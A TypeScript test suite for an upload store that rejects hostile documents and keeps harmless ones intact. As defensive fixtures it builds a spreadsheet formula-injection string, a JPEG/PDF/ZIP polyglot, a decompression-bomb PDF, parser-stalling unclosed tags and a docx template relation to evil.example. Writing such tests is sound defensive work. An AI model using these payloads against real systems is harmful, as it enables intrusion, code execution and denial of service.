import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, describe, expect, test } from 'vitest';
import { createFileStore } from '#platform/files.server';
import { docx, hostileFiles, packedPdf, pdf, relation, xlsx } from './hostile.testing.ts';
import { fileTypes } from './model.ts';

const dir = mkdtempSync(join(tmpdir(), 'hostile-'));
afterAll(() => rmSync(dir, { recursive: true }));
const store = createFileStore({ dir }).of('981028');
const put = (name: string, content: Uint8Array, allowed = Object.keys(fileTypes)) =>
  store.put(content, { name, allowed, maxBytes: 20e6 });

describe('acceptance 3, hostile files: refused, with the reason in plain words and nothing kept', () => {
  test.each(hostileFiles())('%s', async (name, content, says) => {
    const result = await put(name, content);
    expect(result.ok).toBe(false);
    expect(result.ok || result.error.message).toMatch(says);
    // What to do instead is said too.
    expect(result.ok || result.error.message).toMatch(/ください|使えません|空です/);
    expect(readdirSync(dir)).toEqual(['incoming']);
    expect(readdirSync(join(dir, 'incoming'))).toEqual([]);
  });
});

describe('what harmless documents hold is no reason to refuse them', () => {
  const harmless: [string, Buffer][] = [
    ['plain.pdf', pdf('<</Type/Catalog/Pages 2 0 R>>')],
    ['opens-a-page.pdf', pdf('<</Type/Catalog/OpenAction[3 0 R/Fit]>>')],
    ['goes-to-a-page.pdf', pdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/GoTo/D[3 0 R/XYZ 0 0 0]>>')],
    ['goes-to-a-page-packed.pdf', packedPdf(['<</Type/Catalog/OpenAction 3 0 R>>', '[4 0 R/Fit]'])],
    ['packed.pdf', packedPdf(['<</Type/Catalog/Pages 3 0 R>>', '<</Type/Pages/Count 0>>'])],
    ['form-without-program.pdf', pdf('<</Type/Catalog/AcroForm<</Fields[]>>>>')],
    ['link.pdf', pdf('<</Type/Catalog>>', '<</Subtype/Link/A<</S/URI/URI(https://city.example)>>>>')],
    ['signed.pdf', pdf('<</Type/Catalog/AcroForm<</SigFlags 3>>>>', '<</Type/Sig/Filter/Adobe.PPKLite>>')],
    ['about.pdf', pdf('<</Title(JavaScript, Launch, XFA)>>')],
    ['link.docx', docx('<w:document/>', relation('hyperlink', 'https://city.example'))],
    ['page-number.docx', docx('<w:instrText> PAGE </w:instrText><w:instrText>ADDED</w:instrText>')],
    ['picture.docx', docx('<w:document/>', ['word/media/image1.png', Buffer.alloc(100)])],
    ['table.xlsx', xlsx(['xl/worksheets/sheet1.xml', Buffer.from('<worksheet>=cmd|</worksheet>')])],
  ];
  test.each(harmless)('%s', async (name, content) => {
    const result = await put(name, content);
    expect(result.ok || result.error.message).toBe(true);
    const kept = await store.read(result.ok ? result.value.sha256 : '');
    // Kept byte for byte: it is evidence.
    expect(kept.ok && Buffer.compare(kept.value, content)).toBe(0);
  });
});

test('text that a spreadsheet would take for a formula is kept literally', async () => {
  const text = Buffer.from("氏名\n=cmd|'/c calc'!A0\n<script>alert(1)</script>\n");
  const result = await put('list.csv', text);
  const kept = await store.read(result.ok ? result.value.sha256 : '');
  expect(kept.ok && Buffer.from(kept.value).equals(text)).toBe(true);
});

test('a picture that is a PDF and a page as well is a picture afterwards, and nothing else', async () => {
  const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
    .jpeg()
    .toBuffer();
  const comment = Buffer.from('%PDF-1.7 CANARY<script>1</script>');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  const polyglot = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    comment,
    jpeg.subarray(2),
    Buffer.from('PK\u0003\u0004CANARY'),
  ]);
  const result = await put('a.jpg', polyglot);
  const kept = await store.read(result.ok ? result.value.sha256 : '');
  expect(kept.ok && Buffer.from(kept.value).includes('CANARY')).toBe(false);
});

test('a PDF full of packed streams is unpacked to a limit, however many there are', async () => {
  const piece = deflateSync(Buffer.alloc(1e6, '<<>> '));
  const streams = Array.from({ length: 200 }, (_, at) =>
    Buffer.concat([
      Buffer.from(`${at + 2} 0 obj<</Type/ObjStm/N 0/First 0/Filter/FlateDecode>>stream\n`),
      piece,
      Buffer.from('\nendstream endobj\n'),
    ]),
  );
  const end = Buffer.from('trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n');
  const before = process.memoryUsage().arrayBuffers;
  expect((await put('many.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), ...streams, end]))).ok).toBe(false);
  // 200 MB packed; what was unpacked stays below the limit of 32.
  expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(80e6);
});

test('tags that never end are read once: an Office file full of them is looked at in no time', async () => {
  const unended = (tag: string) => Buffer.from(`<x>${`${tag} `.repeat(100_000)}`);
  const started = performance.now();
  await put(
    'relations.docx',
    docx('<w:document/>', ['word/_rels/settings.xml.rels', unended('<Relationship')]),
  );
  await put('fields.docx', docx(unended('<w:instrText').toString()));
  expect(performance.now() - started).toBeLessThan(60_000);
});

test('an attribute with > hides no relation to elsewhere', async () => {
  const rels = `<Relationships><Relationship Id="a>b" Type="http://x/attachedTemplate" Target="http://evil.example/a" TargetMode="External"/></Relationships>`;
  const result = await put(
    'hidden.docx',
    docx('<w:document/>', ['word/_rels/settings.xml.rels', Buffer.from(rels)]),
  );
  expect(result.ok || result.error.message).toMatch(/外の/);
});
